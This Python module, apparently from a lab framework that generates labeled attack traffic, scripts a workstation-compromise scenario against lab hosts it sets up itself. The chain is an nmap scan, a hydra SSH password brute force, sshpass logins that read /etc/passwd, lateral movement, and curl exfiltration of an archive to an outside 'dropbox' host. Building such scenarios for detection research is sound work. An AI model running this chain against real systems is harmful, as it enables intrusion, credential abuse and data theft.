"""A workstation is taken over: scan, password guessing, a login, a second host, data leaving."""

from __future__ import annotations

import random
import shlex

from lab.services import ssh
from lab.site import Host, Role, Site
from lab.stage import Stage
from lab.truth import Cast, addresses

# Pairs that never speak in ordinary life: the first is broken into, the second reached from it.
_STEPS = (
    (Role.WEB, Role.FILES),
    (Role.WEB, Role.DB),
    (Role.APP, Role.FILES),
    (Role.FILES, Role.DB),
    (Role.DNS, Role.FILES),
    (Role.DNS, Role.DB),
)
_ACCOUNTS = ("webadmin", "svc-print", "oldstaff", "support", "labuser")
_PASSWORDS = ("Summer2024!", "Welcome1", "changeme9", "qwerty2023", "Football7")


def cast(site: Site, rng: random.Random, backup_source: str = "") -> Cast:
    """Choose who is taken over. With a ``backup_source``, the second host is that host."""
    steps = [s for s in _STEPS if not backup_source or site.one(s[1]).name == backup_source]
    first, second = (site.one(role) for role in rng.choice(steps))
    workstation = rng.choice(site.all(Role.USER))
    megabytes = rng.randrange(40, 80)
    people = [workstation, first, second]
    return Cast(
        hosts={**addresses(people), "outside": site.dropbox},
        primary=(workstation.address, first.address, second.address, site.dropbox),
        actors=(workstation.address,),
        victims=(first.address, second.address),
        cause=f"{workstation.name} was compromised: it scanned the servers, guessed a password on "
        f"{first.name}, moved on to {second.name} and sent {megabytes} MB from there to "
        f"{site.dropbox}",
        parameters={
            "workstation": workstation.name,
            "first": first.name,
            "second": second.name,
            "account": rng.choice(_ACCOUNTS),
            "password": rng.choice(_PASSWORDS),
            "guesses": rng.randrange(50, 76),
            "megabytes": megabytes,
            "scan_management": int(rng.random() < 0.5),
        },
    )


def prepare(stage: Stage) -> None:
    """Give the two servers the account with the weak password, and the second its data."""
    account, password = (str(stage.cast.parameters[k]) for k in ("account", "password"))
    for name in ("first", "second"):
        ssh.account(stage.machine(name), account, password, None)
    size = int(stage.number("megabytes"))
    target = f"/home/{account}/archive.tar.gz"
    stage.machine("second").run(
        "sh", "-c", f"head -c {size}M /dev/urandom > {target} && chown {account} {target}"
    )
    guesses = _word_list(stage.rng, int(stage.number("guesses")), password)
    stage.machine("workstation").put("/tmp/.w", guesses)


def play(stage: Stage) -> None:
    """Run the attack from the workstation's own shell, step by step."""
    workstation = stage.machine("workstation")
    first, second = stage.host("first"), stage.host("second")
    account = str(stage.cast.parameters["account"])
    networks = [str(stage.site.segment("servers").network)]
    if stage.number("scan_management"):
        networks.append(str(stage.site.segment("management").network))
    with stage.phase("scan", f"TCP port scan of {', '.join(networks)}"):
        workstation.run(
            "nmap", "-n", "-T4", "--top-ports", "120", "--max-retries", "1",
            "--max-rate", "350", "-sS", *networks, check=False, timeout=90,
        )  # fmt: skip
    stage.wait(stage.rng.uniform(3, 7))
    with stage.phase("password guessing", f"SSH as {account} at {first.name}"):
        done = workstation.run(
            "hydra", "-l", account, "-P", "/tmp/.w", "-t", "4", "-f", "-I",
            f"ssh://{first.address}", check=False, timeout=150,
        )  # fmt: skip
        workstation.put("/tmp/.found", done.stdout)
    stage.wait(stage.rng.uniform(2, 5))
    with stage.phase("login", f"{account} logs in to {first.name} from the workstation"):
        workstation.run(*_hop(stage, first, "id; uname -a; cat /etc/passwd; sleep 4"), timeout=60)
    with stage.phase("lateral movement", f"{first.name} to {second.name} by SSH"):
        look = shlex.join(_hop(stage, second, "id; ls -lR /srv /home; sleep 3"))
        workstation.run(*_hop(stage, first, look), timeout=60)
    with stage.phase(
        "exfiltration", f"{second.name} sends {stage.number('megabytes'):.0f} MB to the internet"
    ):
        send = (
            f"curl -s --limit-rate 1600k -T archive.tar.gz "
            f"http://{stage.site.dropbox}/upload/{stage.rng.randrange(10**8)}"
        )
        inner = shlex.join(_hop(stage, second, send))
        workstation.run(*_hop(stage, first, inner), timeout=180)


def _hop(stage: Stage, to: Host, command: str) -> list[str]:
    account, password = (str(stage.cast.parameters[k]) for k in ("account", "password"))
    return ["sshpass", "-p", password, "ssh", f"{account}@{to.address}", command]


def _word_list(rng: random.Random, count: int, right: str) -> str:
    stems = ("password", "letmein", "dragon", "monkey", "summer", "winter", "admin", "secret")
    words = [f"{rng.choice(stems)}{rng.randrange(10, 9999)}" for _ in range(count)]
    return "\n".join([*words, right]) + "\n"
